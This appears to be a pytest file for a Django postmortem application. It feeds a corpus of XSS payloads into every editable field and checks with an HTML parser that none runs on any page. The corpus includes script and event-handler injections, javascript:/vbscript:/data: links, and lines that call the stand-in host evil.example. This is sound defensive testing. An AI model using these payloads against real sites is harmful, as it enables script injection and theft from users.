"""Scripts in every field that people write: nothing of them runs on any page."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from django.test import Client

from incidents.postmortems.domain.states import ReviewAnswer
from incidents.postmortems.models import Postmortem, Version
from incidents.postmortems.services import factors, meetings, postmortems, reviews, sections, timeline, whys
from incidents.postmortems.services.meetings import MeetingDraft
from incidents.postmortems.services.sections import Base
from tests.cast import Cast

As = Callable[[str], Client]

# After the OWASP filter evasion cheat sheet, and what Markdown adds to it.
CORPUS = (
    "<script>alert('owned')</script>",
    "<img src=x onerror=alert('owned')>",
    "<svg/onload=alert('owned')>",
    "<iframe src=javascript:alert('owned')></iframe>",
    "<a href='javascript:alert(1)'>owned</a>",
    "<body onload=alert('owned')>",
    "<details open ontoggle=alert('owned')>",
    "<style>@import 'http://evil.example/owned.css';</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example><input name=owned></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('owned')>",
    "</textarea><script>alert('owned')</script>",
    "</pre></div><script>alert('owned')</script>",
    "\"><script>alert('owned')</script>",
    "' autofocus onfocus=alert('owned') x='",
    "[owned](javascript:alert(1))",
    "[owned](JaVaScRiPt:alert(1))",
    "[owned](java\tscript:alert(1))",
    "[owned](&#106;avascript:alert(1))",
    "[owned](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[owned](vbscript:msgbox(1))",
    "[owned](//evil.example \"' onmouseover='alert(1)\")",
    "![owned](http://evil.example/pixel.png)",
    "![owned](x \"' onerror='alert(1)\")",
    '<http://evil.example/?"onmouseover=alert(1)>',
    "<javascript:alert(1)>",
    "`<script>alert('owned')</script>`",
    "```\n</code></pre><script>alert('owned')</script>\n```",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "| a |\n|---|\n| <img src=x onerror=alert('owned')> |",
    "{{ 7 }}{% load owned %}",
    "&lt;script&gt;alert('owned')&lt;/script&gt;",
    "\u202e<script\u0000>alert('owned')</script>",
)
ALL = "\n\n".join(CORPUS)


class _Page(HTMLParser):
    """Collects what could run, or fetch from elsewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []
        self._is_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self._is_script = tag == "script" and given.get("type") != "application/json"
        is_ours = given.get("src", "").startswith(("/static/", "data:")) or tag not in ("script", "img", "iframe")
        if tag in ("iframe", "object", "embed", "base", "style", "math", "body onload") or not (
            is_ours or given.get("type") == "application/json"
        ):
            self.bad.append(f"<{tag} {given}>")
        for name, value in given.items():
            target = "".join(value.split()).lower()
            is_address = name in ("href", "src", "action", "formaction", "xlink:href")
            if name.startswith("on") or name == "style" or (
                is_address and target.startswith(("javascript:", "vbscript:", "data:text"))
            ):  # fmt: skip
                self.bad.append(f"{tag} {name}={value}")
            if tag in ("form", "meta", "img", "link") and "evil.example" in value:
                self.bad.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        if self._is_script and "owned" in data:
            self.bad.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._is_script = False


def found_in(client: Client, path: str, data: dict[str, str] | None = None) -> list[str]:
    answer = client.get(path) if data is None else client.post(path, data)
    assert answer.status_code in {200, 409, 422}, (path, answer.status_code)
    assert "owned" in answer.content.decode(), path
    page = _Page()
    page.feed(answer.content.decode())
    return page.bad


@pytest.mark.same_everywhere
def test_nothing_of_the_corpus_runs_on_any_page(as_: As, cast: Cast, postmortem: Postmortem, now: object) -> None:
    caller = cast.caller("responder")
    given = {"caller": caller, "postmortem": postmortem, "now": postmortem.created_at}
    for section in list(postmortem.sections.all()):
        sections.save(**given, slug=section.slug, text=ALL, base=Base(1))  # type: ignore[arg-type]  # a mapping of three
    sections.add(**given, title=CORPUS[0], text=ALL)  # type: ignore[arg-type]  # likewise
    item = postmortem.timeline.get(text="Rolling back.")
    timeline.edit(**given, item_id=item.pk, text=ALL[:1_500], annotation=ALL)  # type: ignore[arg-type]  # likewise
    for text in CORPUS[:12]:
        factors.add(**given, category="data", text=text)  # type: ignore[arg-type]  # likewise
        whys.add(**given, parent_id=None, text=text)  # type: ignore[arg-type]  # likewise
    postmortems.edit(**given, title=CORPUS[13])  # type: ignore[arg-type]  # likewise
    reviews.ask(**given, reviewer_ids=[cast.editor.pk])  # type: ignore[arg-type]  # likewise
    told = {**given, "caller": cast.caller("editor")}
    reviews.answer(**told, answer=ReviewAnswer.WAITING, comment=ALL[:1_500])  # type: ignore[arg-type]  # likewise
    planned = MeetingDraft(
        starts_at=postmortem.created_at + timedelta(days=1),
        place=CORPUS[0],
        agenda=ALL[:1_500],
        people=[cast.editor.pk],
    )
    meetings.plan(**given, draft=planned)  # type: ignore[arg-type]  # likewise
    responder = as_("responder")
    here = f"/postmortems/{postmortem.pk}/"
    version = Version.objects.filter(postmortem=postmortem, what="section").latest("pk")
    assert {
        path: found_in(responder, path)
        for path in (
            here,
            *(f"{here}?edit={part}" for part in ("summary", "free-1", "factors", "whys", "timeline")),
            f"{here}edit/",
            f"{here}timeline/{item.pk}/",
            f"{here}meeting/",
            f"{here}print/",
            f"{here}history/",
            f"{here}history/{version.pk}/",
            "/postmortems/?q=owned",
            f"/incidents/{postmortem.incident_id}/",
            "/services/checkout/",
        )
        if found_in(responder, path)
    } == {}
    at = f"{here}sections/summary/"
    sent = ALL.replace("\0", "")
    for data in (
        {"act": "preview", "text": sent, "base": "2"},
        {"act": "save", "text": f"{sent}!", "base": "1"},
        {"act": "save", "text": f"{sent}{'x' * 20_000}", "base": "2"},
    ):
        assert found_in(responder, at, data) == []
    assert found_in(responder, f"{here}preview/", {"text": ALL}) == []
